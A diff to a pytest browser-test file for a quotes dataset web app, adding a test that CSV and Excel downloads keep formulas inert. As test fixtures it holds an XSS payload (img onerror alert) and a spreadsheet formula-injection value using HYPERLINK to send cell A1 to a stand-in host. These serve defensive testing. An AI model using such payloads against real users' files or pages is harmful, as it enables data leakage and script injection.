@@ -3,13 +3,16 @@ from __future__ import annotations
 
 import copy
 
+import openpyxl
+import pandas as pd
 import pytest
 
-from browser_session import Visit, dataset_server
+from browser_session import Visit, dataset_server, marker_centre
 from sample_data import MINI
 
 HOSTILE = '<img src=x onerror="alert(1)"> Peskov said so'
 HOSTILE_NAME = "<i>Hostile</i> & <a href='https://example.org'>co</a>"
+FORMULA = '=HYPERLINK("https://example.org/?leak="&A1,"Click")'
 
 
 @pytest.fixture(scope="module")
@@ -20,6 +23,8 @@ def quotes_server(tmp_path_factory):
                              "text": "Words.", "verbatim": "false", "issue": "", "source_id": "src-b", "context": ""})
     tables["quotes"].append({"id": "peskov-2018-02-05", "date": "2018-02-05", "speaker": "peskov", "on_behalf": "russia",
                              "text": HOSTILE, "verbatim": "true", "issue": "", "source_id": "src-b", "context": ""})
+    tables["quotes"].append({"id": "formula-2017-06-01", "date": "2017-06-01", "speaker": "peskov", "on_behalf": "russia",
+                             "text": FORMULA, "verbatim": "true", "issue": "", "source_id": "src-b", "context": ""})
     with dataset_server(tmp_path_factory, "quotes", tables) as server:
         yield server
 
@@ -28,23 +33,6 @@ def quotes_server(tmp_path_factory):
 def quotes_visit(browser, quotes_server):
     with Visit(browser, quotes_server.base) as v:
         yield v
-
-
-def marker_centre(page, quote_id: str) -> tuple[float, float]:
-    """Where on the page plotly drew the marker of `quote_id` (found by the id first in its customdata)."""
-    page.wait_for_selector(".js-plotly-plot .scatterlayer .point")
-    box = page.evaluate("""(id) => {
-        const plot = document.querySelector('.js-plotly-plot');
-        for (const [t, trace] of plot.calcdata.entries()) {
-            const i = trace.findIndex(p => p.data && p.data[0] === id);
-            if (i < 0) continue;
-            const r = plot.querySelectorAll('.scatterlayer .trace')[t].querySelectorAll('.point')[i].getBoundingClientRect();
-            return [r.x + r.width / 2, r.y + r.height / 2];
-        }
-        return null;
-    }""", quote_id)
-    assert box, f"no marker for {quote_id}"
-    return box[0], box[1]
 
 
 def test_clicking_a_marker_opens_its_card(quotes_visit):
@@ -90,3 +78,20 @@ def test_hostile_text_stays_text(quotes_visit):
     assert page.locator(".js-plotly-plot a").count() == 0
     page.wait_for_timeout(500)
     assert quotes_visit.dialogs == [] and quotes_visit.errors == []
+
+
+def test_downloads_name_the_view_and_day_and_keep_formulas_inert(quotes_visit, tmp_path):
+    page = quotes_visit.open("/Quotes?date=2018-01-30&period=all")
+    files = {}
+    for label in ("Download CSV", "Download Excel"):
+        with page.expect_download(timeout=60000) as info:
+            page.get_by_role("button", name=label).click()
+        files[label] = tmp_path / info.value.suggested_filename
+        info.value.save_as(files[label])
+    assert [f.name for f in files.values()] == ["quotes-2018-01-30.csv", "quotes-2018-01-30.xlsx"]
+    csv_rows = pd.read_csv(files["Download CSV"], encoding="utf-8-sig").set_index("id")
+    assert csv_rows.loc["formula-2017-06-01", "text"] == "'" + FORMULA
+    sheet = openpyxl.load_workbook(files["Download Excel"]).active
+    cell = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULA)
+    assert cell.data_type == "s" and cell.quotePrefix
+    assert len(csv_rows) == sheet.max_row - 1 == 5
